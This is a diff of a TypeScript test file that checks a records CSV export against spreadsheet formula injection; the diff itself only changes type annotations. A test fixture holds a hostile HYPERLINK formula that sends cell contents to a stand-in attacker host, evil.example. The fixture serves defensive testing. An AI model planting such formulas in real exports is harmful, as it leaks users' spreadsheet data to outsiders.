@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { CSV_COLUMNS, CSV_HEADERS_ES, type CsvColumn } from '../src/modules/records/export.js';
+import { CSV_COLUMNS, CSV_HEADERS_ES } from '../src/modules/records/export.js';
 import { assertNoFormula, DIALECTS, expectedCell, FORMULA_CHARS, parseCsv } from './csv.js';
 import { createMember, DashboardBrowser, PASSWORD } from './dashboard-client.js';
 import { api, createTenant, startTestApp, type Tenant, type TestContext, validRecord } from './helpers.js';
@@ -12,7 +12,7 @@ import { api, createTenant, startTestApp, type Tenant, type TestContext, validRe
  */
 
 /** A column's header in a form: Spanish in `es`, the API's field name in `plain`. */
-const header = (dialect: 'es' | 'plain', column: CsvColumn) => (dialect === 'es' ? CSV_HEADERS_ES[column] : column);
+const header = (dialect: 'es' | 'plain', column: string) => (dialect === 'es' ? (CSV_HEADERS_ES[column] as string) : column);
 
 const HOSTILE = [
   'a\n=HYPERLINK("https://evil.example/?"&A1,"click")',
@@ -83,7 +83,7 @@ describe('records CSV export: formula injection', () => {
     const res = await download(dialect);
     expect(res.statusCode, res.body).toBe(200);
     const rows = parseCsv(res.body, delimiter);
-    const cell = (row: Record<string, string>, column: CsvColumn) => row[header(dialect, column)];
+    const cell = (row: Record<string, string>, column: string) => row[header(dialect, column)];
     expect(rows).toHaveLength(stored.length);
     expect(rows.map((r) => cell(r, 'id')).sort()).toEqual(stored.map((r) => r.id).sort());
     const byId = new Map(stored.map((r) => [r.id, r]));
